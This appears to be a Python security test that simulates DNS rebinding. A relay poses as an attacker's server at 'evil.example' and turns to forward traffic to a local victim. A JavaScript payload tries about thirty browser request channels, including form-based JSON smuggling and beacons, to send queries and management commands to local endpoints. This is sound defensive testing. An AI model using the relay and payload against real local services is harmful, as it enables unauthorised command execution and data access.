"""A web page of an attacker, whose name leads to this machine: DNS rebinding without a DNS."""

import contextlib
import socket
import threading

NAME = "evil.example"
PAGE = b"<!DOCTYPE html><title>A harmless page</title><h1>A harmless page</h1>"
RULES = (
    f"--host-resolver-rules=MAP {NAME} 127.0.0.1, MAP * ~NOTFOUND, "
    "EXCLUDE 127.0.0.1, EXCLUDE localhost"
)


class Relay:
    """The attacker's server: a page at first; once turned, whatever comes goes to a victim."""

    def __init__(self):
        self.statuses = []
        self._victim = 0
        self._server = socket.create_server(("127.0.0.1", 0), backlog=64)
        threading.Thread(target=self._accept, daemon=True).start()

    @property
    def origin(self):
        return f"http://{NAME}:{self._server.getsockname()[1]}"

    def turn(self, uri):
        """Let the name lead to another server from now on."""
        self._victim = int(uri.rsplit(":", 1)[1])

    def close(self):
        self._server.close()

    def _accept(self):
        with contextlib.suppress(OSError):
            while True:
                line, _ = self._server.accept()
                threading.Thread(target=self._serve, args=(line,), daemon=True).start()

    def _serve(self, line):
        with contextlib.suppress(OSError), line:
            first = line.recv(65536)
            if not first:
                return
            if not self._victim:
                head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(PAGE)}\r\nConnection: close\r\n"
                line.sendall(f"{head}Content-Type: text/html\r\n\r\n".encode() + PAGE)
                return
            with socket.create_connection(("127.0.0.1", self._victim)) as victim:
                victim.sendall(first)
                threading.Thread(target=self._answers, args=(victim, line), daemon=True).start()
                while data := line.recv(65536):
                    victim.sendall(data)

    def _answers(self, victim, line):
        with contextlib.suppress(OSError):
            while data := victim.recv(65536):
                if data.startswith(b"HTTP/1.1 "):
                    self.statuses.append(int(data.split(b" ", 2)[1]))
                line.sendall(data)


ATTACK = """async ({ bases, query, script, command, token }) => {
  const within = promise => Promise.race(
    [promise, new Promise(done => setTimeout(done, 3000, 'no answer'))]);
  const json = { 'Content-Type': 'application/json' };
  const key = { Authorization: `Bearer ${token}` };
  const status = answer => answer.type === 'opaque' ? 'opaque' : answer.status;
  const ask = (url, options) => fetch(url, options).then(status, () => 'error');
  const element = (name, attribute, url, more = {}) => new Promise(done => {
    const made = Object.assign(document.createElement(name), more);
    made.onload = () => done('loaded');
    made.onerror = () => done('error');
    made.onloadeddata = () => done('loaded');
    made[attribute] = url;
    document.body.append(made);
  });
  let forms = 0;
  const form = (action, method, enctype, fields) => new Promise(done => {
    const frame = document.createElement('iframe');
    frame.name = `frame-${forms++}`;
    document.body.append(frame);
    const made = Object.assign(
      document.createElement('form'), { action, method, enctype, target: frame.name });
    for (const [name, value] of fields) {
      made.append(Object.assign(document.createElement('input'), { name, value }));
    }
    document.body.append(made);
    frame.onload = () => done('loaded');
    made.submit();
  });
  const inWorker = url => new Promise(done => {
    const text = `fetch(${JSON.stringify(url)}).then(a => postMessage(a.status), () => postMessage('error'))`;
    const worker = new Worker(URL.createObjectURL(new Blob([text])));
    worker.onmessage = event => done(event.data);
    worker.onerror = () => done('error');
  });
  const request = (method, url, headers, body) => new Promise(done => {
    const made = new XMLHttpRequest();
    made.onload = () => done(made.status);
    made.onerror = () => done('error');
    made.open(method, url);
    Object.entries(headers).forEach(pair => made.setRequestHeader(...pair));
    made.send(body);
  });
  const stream = url => new Promise(done => {
    const made = new EventSource(url);
    made.onopen = () => done('open');
    made.onerror = () => { made.close(); done('error'); };
  });
  const web = url => new Promise(done => {
    const made = new WebSocket(url.replace('http', 'ws'));
    made.onopen = () => done('open');
    made.onerror = () => done('error');
  });
  const found = {};
  for (const base of bases) {
    const get = `${base}/v2/rest/query?${new URLSearchParams({ db: 'Sales', csl: query })}`;
    const post = `${base}/v2/rest/query`, manage = `${base}/v1/rest/mgmt`;
    const tries = {
      'GET': () => ask(get),
      'GET with the key': () => ask(get, { headers: key }),
      'GET without a referrer': () => ask(get, { referrerPolicy: 'no-referrer' }),
      'GET without CORS': () => ask(get, { mode: 'no-cors', referrerPolicy: 'no-referrer' }),
      'HEAD': () => ask(get, { method: 'HEAD' }),
      'simple POST': () => ask(manage, { method: 'POST', body: command }),
      'POST without CORS': () => ask(manage, { method: 'POST', mode: 'no-cors', body: command }),
      'POST of JSON': () => ask(manage, { method: 'POST', headers: json, body: command }),
      'POST with the key': () => ask(
        post, { method: 'POST', headers: { ...json, ...key }, body: script }),
      'POST that outlives the page': () => ask(
        manage, { method: 'POST', keepalive: true, mode: 'no-cors', body: command }),
      'beacon': () => navigator.sendBeacon(manage, command) && 'sent',
      'XMLHttpRequest': () => request('GET', get, {}, null),
      'XMLHttpRequest with the key': () => request('POST', post, { ...json, ...key }, script),
      'PATCH': () => request('PATCH', `${base}/subscriptions?api-version=2022-12-01`, key, '{}'),
      'image': () => element('img', 'src', get, { referrerPolicy: 'no-referrer' }),
      'script': () => element('script', 'src', get, { referrerPolicy: 'no-referrer' }),
      'module': () => element('script', 'src', get, { type: 'module' }),
      'style': () => element('link', 'href', get, { rel: 'stylesheet' }),
      'preload': () => element('link', 'href', get, { rel: 'preload', as: 'fetch' }),
      'video': () => element('video', 'src', get, { preload: 'auto' }),
      'frame': () => element('iframe', 'src', get, { referrerPolicy: 'no-referrer' }),
      'frame in a sandbox': () => element('iframe', 'src', get, { sandbox: 'allow-scripts' }),
      'object': () => element('object', 'data', get),
      'form as text': () => form(manage, 'POST', 'text/plain', [[command.slice(0, -1) + ',"', '":1}']]),
      'form': () => form(manage, 'POST', 'application/x-www-form-urlencoded', [['csl', command]]),
      'form in parts': () => form(manage, 'POST', 'multipart/form-data', [['csl', command]]),
      'form with GET': () => form(post, 'GET', '', [['db', 'Sales'], ['csl', query]]),
      'worker': () => inWorker(get),
      'events': () => stream(get),
      'WebSocket': () => web(get),
    };
    for (const [name, attempt] of Object.entries(tries)) {
      found[`${name} to ${base}`] = await within(attempt());
    }
  }
  return found;
}"""
